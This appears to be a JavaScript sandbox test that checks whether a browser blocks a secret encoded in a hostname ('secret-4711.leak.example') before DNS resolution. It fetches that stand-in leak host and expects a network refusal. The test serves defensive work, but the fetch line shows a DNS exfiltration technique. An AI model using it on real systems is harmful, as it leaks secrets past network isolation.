// A secret in the name of a host.
// tries: have a name resolved that holds the secret: the name server of its domain would hear it, whatever becomes of the request
// must: be refused before the name is resolved (here all names of the domain lead to the listener)
// refusal: Failed to fetch|NetworkError|Load failed|no network
// status: timeout
// timeout: 5000
// control: heard, but not in WebKit, which leads no name elsewhere
const address = new URL(OUT);
address.hostname = 'secret-4711.leak.example';
await fetch(address, { mode: 'no-cors' });
console.log('escaped: the name was resolved');
